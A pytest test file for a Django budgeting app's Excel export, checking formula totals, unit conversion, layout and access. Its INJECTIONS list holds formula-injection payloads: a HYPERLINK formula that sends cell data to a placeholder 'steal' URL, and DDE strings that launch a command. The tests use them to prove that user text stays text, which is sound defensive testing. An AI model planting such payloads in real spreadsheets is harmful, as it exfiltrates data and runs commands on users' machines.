"""The Excel export: formulas evaluate to the engine's figures, user text stays text, layout."""

from __future__ import annotations

from decimal import ROUND_HALF_UP, Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from budgets.excel_cells import (
    NUMBER_FORMAT,
    amount_to_cell,
    cell_to_amount,
    set_text,
    sheet_ref,
    total_to_amount,
)
from budgets.excel_export import KEY_COL
from budgets.excel_import import read_import
from budgets.models import BudgetLine, Group
from budgets.services import (
    budget_for_plan,
    budget_line_create,
    budget_line_update,
    budget_settings_set,
    budget_summary_for_plan,
    intervention_amounts_set,
)
from members.contributions import contribution_table
from plans.models import Intervention

from .excel_fixtures import (  # noqa: F401 - fixtures
    SEED_SLUGS,
    draft_plan,
    evaluator,
    export_bytes,
    falun_plan_fixture,
    load,
    row_of,
    save,
    seed_plan,
    split_line,
    vvnd_plan_fixture,
)

pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore::DeprecationWarning")]

YEAR_COLS = "BCD"


def _kr(value, unit):
    """An evaluated cell as kronor ('' and None stay None)."""
    if value in (None, ""):
        return None
    return total_to_amount(value, unit)


def _expected_rows(summary):
    """Hidden key → the engine's three figures for every computed row of the Budget sheet."""
    y = summary.years
    rows = {
        "income": [v.total_income for v in y],
        "costs": [v.total_costs for v in y],
        "result": [v.result for v in y],
        "annual": [v.annual_result for v in y],
        "equity_open": [v.opening_equity for v in y],
        "equity_close": [v.closing_equity for v in y],
        "equity_base": [v.equity_base for v in y],
        "equity_bound": [v.equity_bound for v in y],
    }
    for g in summary.groups:
        rows[f"sum:{g.key}"] = list(g.totals)
        for line in g.lines:
            if line.source == "engine":
                key = line.member_id if line.member_id is not None else "state"
                rows[f"contrib:{key}"] = [a or 0 for a in line.amounts]
            elif line.source == "split":
                # blank where nothing is budgeted, as the line itself and the Insatser sheet
                rows[f"splitin:{line.id}"] = list(line.amounts)
                rows[f"splitout:{line.id}"] = [None if a is None else -a for a in line.amounts]
            elif line.source == "balancing":
                rows[f"bal:{line.id}:{line.version}"] = list(line.amounts)
            else:
                rows[f"line:{line.id}:{line.version}"] = list(line.typed)
    return rows


def _assert_sheet_matches_engine(plan, data, tmp_path):
    summary = budget_summary_for_plan(plan)
    xl = evaluator(data, tmp_path)
    ws = load(data)["Budget"]
    expected = _expected_rows(summary)
    seen = set()
    for r in range(5, ws.max_row + 1):
        key = ws.cell(row=r, column=KEY_COL).value
        if key not in expected:
            continue
        seen.add(key)
        got = [_kr(xl.evaluate(f"Budget!{c}{r}"), plan.unit) for c in YEAR_COLS]
        want = expected[key]
        assert got == want, (key, got, want)
    # every group total, the result and the equity rows were found and checked
    assert {"income", "costs", "result", "equity_close"} <= seen
    # a group without lines is left out, as in the PDF (no "Summa … 0" row)
    assert {f"sum:{g.key}" for g in summary.groups if not g.is_empty} <= seen
    assert not {f"sum:{g.key}" for g in summary.groups if g.is_empty} & seen
    # ratios: the same percentages as the engine, to the one decimal both show
    for key, attr in (
        ("admin_share", "administration_share"),
        ("individual_share", "individual_share"),
        ("structural_share", "structural_share"),
    ):
        r = row_of(ws, key)
        for i, c in enumerate(YEAR_COLS):
            value = xl.evaluate(f"Budget!{c}{r}")
            want = getattr(summary.years[i], attr)
            if want is None:
                assert value == ""
            else:
                assert Decimal(repr(value * 100)).quantize(Decimal("0.1"), ROUND_HALF_UP) == want
    return summary, xl, ws


@pytest.mark.parametrize("slug", SEED_SLUGS)
def test_every_total_formula_evaluates_to_the_engines_figure(slug, tmp_path):
    plan = seed_plan(slug)
    data = export_bytes(plan)
    summary, xl, ws = _assert_sheet_matches_engine(plan, data, tmp_path)
    assert summary.groups  # the seed has a budget
    # totals are formulas in the file, not pasted numbers
    for key in ("income", "costs", "result", "sum:administration", "equity_close"):
        for c in YEAR_COLS:
            cell = ws[f"{c}{row_of(ws, key)}"]
            assert cell.data_type == "f" and str(cell.value).startswith("="), (key, cell.value)


def test_vvnd_result_is_368_000_in_excel_too(tmp_path):
    data = export_bytes(seed_plan("vvnd"))
    xl = evaluator(data, tmp_path)
    ws = load(data)["Budget"]
    r = row_of(ws, "result")
    assert [xl.evaluate(f"Budget!{c}{r}") for c in YEAR_COLS] == [368000, 0, 0]


def test_varna_deficit_is_evaluated_to_the_krona(tmp_path):
    plan = seed_plan("varna")
    data = export_bytes(plan)
    xl = evaluator(data, tmp_path)
    ws = load(data)["Budget"]
    r = row_of(ws, "result")
    summary = budget_summary_for_plan(plan)
    assert xl.evaluate(f"Budget!B{r}") == summary.years[0].result
    assert summary.years[0].result == -1_385_948


def test_contribution_sheet_sums_to_the_contribution_table(tmp_path):
    plan = seed_plan("vvnd")
    data = export_bytes(plan)
    xl = evaluator(data, tmp_path)
    ws = load(data)["Medlemsbidrag"]
    table = contribution_table(plan)
    total_row = row_of(ws, "total", key_col=6)
    for i, c in enumerate("CDE"):
        assert ws[f"{c}{total_row}"].data_type == "f"
        assert xl.evaluate(f"Medlemsbidrag!{c}{total_row}") == table.years[i].total
    assert table.years[0].total == 7_864_000
    # one row per member with the engine's amount
    fk = next(r for r in table.years[0].rows if r.label == "Försäkringskassan")
    r = row_of(ws, f"member:{fk.member_id}", key_col=6)
    assert ws[f"A{r}"].value == "Försäkringskassan"
    assert ws[f"C{r}"].value == 1_966_000


def test_budget_contribution_rows_point_into_the_contribution_sheet(vvnd_plan):
    ws = load(export_bytes(vvnd_plan))["Budget"]
    first = next(
        r for r in range(5, ws.max_row + 1) if str(ws.cell(r, KEY_COL).value).startswith("contrib:")
    )
    assert ws[f"B{first}"].value.startswith("='Medlemsbidrag'!C")


def test_tkr_workbook_keeps_every_krona(falun_plan):
    assert falun_plan.unit == "tkr"
    line = budget_line_create(
        user=None,
        plan=falun_plan,
        group=Group.ADMINISTRATION,
        name="Hyra",
        amounts=(196_600, 1_000, None),
    )
    ws = load(export_bytes(falun_plan))["Budget"]
    r = row_of(ws, f"line:{line.pk}:{line.version}")
    assert ws[f"B{r}"].value == pytest.approx(196.6)
    assert ws[f"C{r}"].value == 1
    assert ws[f"D{r}"].value is None
    assert cell_to_amount(ws[f"B{r}"].value, "tkr") == 196_600
    assert ws[f"B{r}"].number_format == NUMBER_FORMAT


def test_split_line_moves_its_share_with_a_formula(vvnd_plan, tmp_path):
    line = split_line(
        vvnd_plan,
        name="Förbundschef (del processledning)",
        amounts=(900_001, 900_000, None),
        percent="33.5",
    )
    data = export_bytes(vvnd_plan)
    summary, xl, ws = _assert_sheet_matches_engine(vvnd_plan, data, tmp_path)
    r_in = row_of(ws, f"splitin:{line.pk}")
    assert xl.evaluate(f"Budget!B{r_in}") == 301_500  # 900 001 × 33,5 % rounded half up
    assert ws[f"B{r_in}"].data_type == "f"
    # Year 3 has no amount: both parts of the split are blank there, not 0, as the line is;
    # calculated (pycel) and as cached in the file for programs that do not calculate.
    r_out = row_of(ws, f"splitout:{line.pk}")
    assert [xl.evaluate(f"Budget!{c}{r}") for r in (r_out, r_in) for c in "CD"] == [
        -301_500,
        "",
        301_500,
        "",
    ]
    cached = load_workbook(BytesIO(data), data_only=True)["Budget"]
    assert [cached[f"D{r}"].value for r in (r_out, r_in)] in (["", ""], [None, None])
    preview = read_import(vvnd_plan, data, "budget.xlsx")
    assert [str(p) for p in preview.problems] == [] and preview.changes == []


def test_interventions_sheet_lists_amounts_as_formulas(vvnd_plan, tmp_path):
    iv = Intervention.objects.create(
        plan=vvnd_plan, name="Plattformen för samverkan", kind="individual"
    )
    intervention_amounts_set(user=None, intervention=iv, amounts=(2_100_000, 1_500_000, None))
    data = export_bytes(vvnd_plan)
    xl = evaluator(data, tmp_path)
    ws = load(data)["Insatser"]
    r = row_of(ws, f"intervention:{iv.pk}", key_col=8)
    assert ws[f"A{r}"].value == "Plattformen för samverkan"
    assert ws[f"B{r}"].value == "Individinriktad"
    assert ws[f"E{r}"].data_type == "f"
    assert [xl.evaluate(f"Insatser!{c}{r}") for c in "EFG"] == [2_100_000, 1_500_000, ""]
    total = row_of(ws, "total", key_col=8)
    from budgets.services import intervention_amounts

    granted = intervention_amounts(vvnd_plan)
    assert xl.evaluate(f"Insatser!E{total}") == sum(a[0] or 0 for a in granted.values())


INJECTIONS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_a_user_typed_never_becomes_a_formula(vvnd_plan, text):
    line = budget_line_create(
        user=None, plan=vvnd_plan, group=Group.ADMINISTRATION, name=text, amounts=(1000, None, None)
    )
    iv = Intervention.objects.create(plan=vvnd_plan, name=text, kind="structural")
    vvnd_plan.title = text
    vvnd_plan.save()
    wb = load(export_bytes(vvnd_plan))
    ws = wb["Budget"]
    r = row_of(ws, f"line:{line.pk}:{line.version}")
    cell = ws[f"A{r}"]
    assert cell.data_type == "s"
    assert cell.value.strip() == text
    iv_ws = wb["Insatser"]
    iv_cell = iv_ws[f"A{row_of(iv_ws, f'intervention:{iv.pk}', key_col=8)}"]
    assert iv_cell.data_type == "s" and iv_cell.value == text
    assert ws["A2"].data_type == "s" and text in ws["A2"].value


def test_set_text_forces_a_string_even_for_formula_like_text():
    ws = Workbook().active
    cell = set_text(ws["A1"], "=SUM(A2:A3)")
    wb = ws.parent
    ws2 = load(save(wb)).active
    assert cell.data_type == "s"
    assert ws2["A1"].data_type == "s" and ws2["A1"].value == "=SUM(A2:A3)"


def test_sheet_names_with_swedish_letters_work_in_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.title = "Årsbudget för Åmål"
    ws["B2"] = 1_966_000
    other = wb.create_sheet("Översikt")
    other["A1"] = "=" + sheet_ref("Årsbudget för Åmål", "B2") + "*2"
    xl = evaluator(save(wb), tmp_path)
    assert xl.evaluate("Översikt!A1") == 3_932_000


def test_amount_conversion_round_trips_in_both_units():
    for amount in (0, 1, 999, 196_600, 1_966_000, -1_385_948, 123_456_789):
        for unit in ("kr", "tkr"):
            assert cell_to_amount(amount_to_cell(amount, unit), unit) == amount
            assert cell_to_amount(float(amount_to_cell(amount, unit)), unit) == amount


def test_layout_print_setup_and_properties(vvnd_plan):
    wb = load(export_bytes(vvnd_plan))
    assert wb.sheetnames[:4] == ["Budget", "Medlemsbidrag", "Insatser", "Om filen"]
    assert wb["finsam_id"].sheet_state == "veryHidden"
    ws = wb["Budget"]
    assert ws.freeze_panes == "B5"
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == str(ws.PAPERSIZE_A4)
    assert ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$4:$4"
    assert ws.column_dimensions["E"].hidden
    assert ws.column_dimensions["A"].width >= 40
    r = row_of(ws, "result")
    assert ws[f"B{r}"].number_format == NUMBER_FORMAT
    assert ws["B4"].value.startswith(str(vvnd_plan.year))
    props = wb.properties
    assert props.creator == "Finsam Plan"
    assert "Västra Värmland" in props.title or "Västra Värmlands" in props.title
    custom = {p.name: p.value for p in wb.custom_doc_props}
    assert custom["Samordningsförbund"] == vvnd_plan.association.name
    assert custom["FinsamPlanId"] == vvnd_plan.pk
    for name in ("Medlemsbidrag", "Insatser"):
        assert wb[name].freeze_panes == "B5"
        assert wb[name].page_setup.orientation == "landscape"


def test_export_view_downloads_the_workbook(client_for, vvnd_plan):
    client = client_for("finance")
    url = f"/f/vvnd/plan/{vvnd_plan.pk}/budget/excel/"
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment;" in response["Content-Disposition"]
    assert ".xlsx" in response["Content-Disposition"]
    wb = load(response.content)
    assert "Budget" in wb.sheetnames


def test_auditor_can_export_an_approved_plan(client_for):
    plan = seed_plan("vvnd")
    assert plan.is_frozen
    response = client_for("auditor").get(f"/f/vvnd/plan/{plan.pk}/budget/excel/")
    assert response.status_code == 200
    assert "Budget" in load(response.content).sheetnames


def test_export_query_count_does_not_grow_with_lines(
    client_for, vvnd_plan, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = client_for("finance")
    url = f"/f/vvnd/plan/{vvnd_plan.pk}/budget/excel/"

    def add(n):
        for i in range(n):
            budget_line_create(
                user=None,
                plan=vvnd_plan,
                group=Group.STRUCTURAL,
                name=f"Rad {i}",
                amounts=(1000 * i, None, 5),
            )

    add(10)
    client.get(url)
    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    add(10)
    with CaptureQueriesContext(connection) as large:
        assert client.get(url).status_code == 200
    assert len(large.captured_queries) == len(small.captured_queries)


def test_balancing_line_on_the_income_side_is_solved_by_a_formula(vvnd_plan, tmp_path):
    """Equity put to use that absorbs whatever brings the result to the target."""
    old = BudgetLine.objects.filter(budget__plan=vvnd_plan, is_balancing=True).first()
    if old is not None:
        budget_line_update(user=None, line=old, expected_version=old.version, is_balancing=False)
    line = budget_line_create(
        user=None,
        plan=vvnd_plan,
        group=Group.EQUITY_USE,
        name="Eget kapital som tas i anspråk",
        is_balancing=True,
    )
    budget = budget_for_plan(vvnd_plan)
    budget_settings_set(
        user=None,
        budget=budget,
        expected_version=None,
        balance_target_1=-150_000,
        balance_target_2=0,
        balance_target_3=None,
    )
    data = export_bytes(vvnd_plan)
    summary, xl, ws = _assert_sheet_matches_engine(vvnd_plan, data, tmp_path)
    r = row_of(ws, f"bal:{line.pk}:{line.version}")
    assert ws[f"B{r}"].data_type == "f" and ws[f"C{r}"].data_type == "f"
    assert ws[f"D{r}"].value is None  # year 3 has no target: typed (empty)
    result = row_of(ws, "result")
    assert [xl.evaluate(f"Budget!{c}{result}") for c in "BC"] == [-150_000, 0]
